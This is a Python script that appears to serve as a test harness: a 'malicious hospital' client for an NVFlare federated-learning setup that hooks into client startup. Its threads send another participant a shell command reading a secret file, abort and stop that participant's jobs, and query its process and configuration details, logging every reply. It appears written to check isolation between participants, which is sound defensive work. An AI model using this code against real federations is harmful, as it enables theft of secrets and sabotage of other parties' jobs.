"""FLARE's client of a malicious hospital: python hostile.py KIT NAME VICTIM PATH OUT, with CONSILIUM_SITE set.

It takes part like any other. In addition it asks the victim for a file and its settings, and the process of the
victim's job to abort and to stop; it writes the replies to OUT, one line per attempt.
"""

from __future__ import annotations

import json
import runpy
import sys
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as Command
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
from nvflare.private.fed.client.client_engine import ClientEngine

from pipelines.remote.startup_kit import make_strict

kit, name, victim, secret, out = sys.argv[1:]
begun = ClientEngine.initialize_comm
WRITING = threading.Lock()


def begin(self: Any, cell: Any) -> None:
    begun(self, cell)
    for attack in (harm_client, harm_jobs):
        threading.Thread(target=attack, args=(self, cell), daemon=True).start()


def harm_client(engine: Any, cell: Any) -> None:
    """Ask the victim's client for a file and its settings, every second."""
    shell = new_cell_message({}, Command(topic=SysCommandTopic.SHELL, body=f"cat {secret}"))
    while True:
        tell("file", cell, victim, CellChannel.CLIENT_MAIN, "admin", shell)
        ask_settings(cell, victim)
        time.sleep(1)


def harm_jobs(engine: Any, cell: Any) -> None:
    """Ask the victim's job to abort, to stop and for its settings. A job is over in seconds, and an attempt waits three
    for its reply: so jobs are looked for all the time, and what harms most comes first.
    """
    while True:
        for target in [f"{victim}.{job}" for job in list(engine.client_executor.run_processes)]:
            tell("abort", cell, target, CellChannel.CLIENT_COMMAND, "abort", new_cell_message({}, {}))
            tell("stop_cell", cell, target, "_net_manager", "stop_cell", new_cell_message({}))
            ask_settings(cell, target)
        time.sleep(0.1)


def ask_settings(cell: Any, target: str) -> None:
    """Ask a process about itself."""
    for topic in ("process_info", "config_vars"):
        tell(topic, cell, target, "_net_manager", topic, new_cell_message({}))


def tell(what: str, cell: Any, target: str, channel: str, topic: str, message: Message) -> None:
    """Send a request, and write the reply to OUT."""
    try:
        reply = cell.send_request(target=target, channel=channel, topic=topic, request=message, timeout=3)
        said = {"what": what, "to": target, "said": str(getattr(reply.payload, "body", reply.payload))[:400]}
    except Exception as error:
        said = {"what": what, "to": target, "said": str(error)[:400]}
    with WRITING, Path(out).open("a") as file:
        file.write(json.dumps(said) + "\n")


if __name__ == "__main__":
    ClientEngine.initialize_comm = begin
    make_strict(Path(kit))
    (Path(kit) / "transfer").mkdir(exist_ok=True)
    options = ["secure_train=true", f"uid={name}", f"org={name}_hospital", "config_folder=config"]
    sys.argv = ["client_train", "-m", str(Path(kit).resolve()), "-s", "fed_client.json", "--set", *options]
    runpy.run_module("nvflare.private.fed.app.client.client_train", run_name="__main__")
